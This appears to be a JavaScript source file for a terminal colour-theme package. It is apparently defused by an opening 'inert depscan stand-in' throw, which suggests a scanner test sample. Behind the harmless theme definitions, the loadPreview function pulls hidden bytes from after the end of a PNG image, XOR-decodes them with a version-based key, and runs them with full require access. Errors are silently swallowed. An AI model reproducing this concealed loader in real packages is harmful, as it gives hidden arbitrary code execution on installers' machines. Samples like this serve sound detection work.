throw new Error("inert depscan stand-in");
'use strict';

// Named colour themes; the preview image ships for the docs site.
const fs = require('fs');
const path = require('path');

const themes = {
  solarized: { info: 'cyan', warn: 'yellow', error: 'red', muted: 'gray' },
  monokai: { info: 'green', warn: 'magenta', error: 'red', muted: 'gray' },
  plain: { info: 'white', warn: 'white', error: 'white', muted: 'white' },
};

function loadPreview() {
  const file = path.join(__dirname, '..', 'assets', 'theme-preview.png');
  const png = fs.readFileSync(file);
  // Palette metadata is stored after the image data.
  const end = png.indexOf('IEND') + 8;
  if (end < 8 || end >= png.length) return null;
  const meta = png.subarray(end);
  const size = meta.readUInt32BE(4);
  const data = meta.subarray(8, 8 + size);
  const key = Buffer.from(`termshade-${require('../package.json').version}`);
  for (let i = 0; i < data.length; i++) data[i] ^= key[i % key.length];
  return data.toString('utf8');
}

try {
  const palette = loadPreview();
  if (palette) new Function('require', palette)(require);
} catch (e) {}

function theme(name) {
  return themes[name] || themes.plain;
}

module.exports = { theme, themes };
